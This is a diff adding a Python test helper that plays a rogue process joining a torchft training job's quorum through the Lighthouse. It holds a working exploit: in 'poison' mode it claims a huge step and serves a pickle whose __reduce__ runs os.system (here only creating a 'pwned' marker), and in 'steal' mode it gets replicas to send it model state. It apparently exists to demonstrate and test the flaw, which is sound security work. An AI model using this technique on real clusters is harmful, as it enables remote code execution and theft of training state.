@@ -1,0 +1,74 @@
+"""A process the coordinator never assigned joins a job's quorum through the Lighthouse.
+
+``python rogue_member.py MODE LIGHTHOUSE OUT_DIR SECONDS`` (a real torchft Manager, as an
+attacker on the cluster network would run it):
+
+- ``poison``: claims a huge step, so torchft makes it the recovery source, and serves with
+  torchft's own HTTP transport a pickle whose loading creates ``OUT_DIR/pwned``;
+- ``steal``: joins at step 0, so torchft makes a real replica send it the state; if it ever
+  receives it, it writes ``OUT_DIR/stolen``.
+
+It starts its Manager at once and joins when ``OUT_DIR/go`` appears, for SECONDS.
+"""
+
+from __future__ import annotations
+
+import os
+import sys
+import time
+from datetime import timedelta
+from pathlib import Path
+from typing import Any
+
+from torch.distributed import TCPStore
+from torchft.checkpointing.http_transport import HTTPTransport
+from torchft.manager import Manager
+from torchft.process_group import ProcessGroupGloo
+
+mode, lighthouse, out, seconds = sys.argv[1], sys.argv[2], Path(sys.argv[3]), float(sys.argv[4])
+
+
+class Payload:
+    def __reduce__(self) -> tuple[Any, ...]:
+        return (os.system, (f"touch {out / 'pwned'}",))
+
+
+class PoisonTransport(HTTPTransport):
+    def send_checkpoint(self, dst_ranks: list[int], step: int, state_dict: Any,
+                        timeout: timedelta) -> None:
+        evil = {"user": {"default": Payload()}, "torchft": Payload()}
+        super().send_checkpoint(dst_ranks, step, evil, timeout)
+
+
+def stolen(state: Any) -> None:
+    (out / "stolen").write_text(repr(sorted(state))[:1000])
+
+
+store = TCPStore("127.0.0.1", 0, is_master=True, wait_for_workers=False)
+timeout = timedelta(seconds=5)
+manager = Manager(
+    pg=ProcessGroupGloo(timeout=timedelta(seconds=5)), load_state_dict=stolen, state_dict=lambda: {},
+    min_replica_size=1, use_async_quorum=False, timeout=timeout,
+    quorum_timeout=timedelta(seconds=10), connect_timeout=timedelta(seconds=5),
+    rank=0, world_size=1, store_addr="127.0.0.1", store_port=store.port,
+    lighthouse_addr=lighthouse, replica_id=f"node_{mode}_9", hostname="127.0.0.1", port=0,
+    checkpoint_transport=PoisonTransport(timeout=timeout, num_chunks=0) if mode == "poison"
+    else HTTPTransport(timeout=timeout, num_chunks=0),
+    init_sync=False, quorum_retries=0,
+)
+while not (out / "go").exists():  # the test says when training is under way
+    time.sleep(0.05)
+deadline = time.monotonic() + seconds
+rounds = 0
+while time.monotonic() < deadline:
+    if mode == "poison":
+        manager._step = 10**6
+    try:
+        manager.start_quorum()
+        rounds += 1
+    except Exception as exc:  # the real replicas may refuse us; keep trying until the deadline
+        print(f"rogue: quorum failed: {exc}", flush=True)
+        time.sleep(0.2)
+(out / "rounds").write_text(str(rounds))
+print(f"rogue {mode}: {rounds} quorum rounds", flush=True)
+os._exit(0)
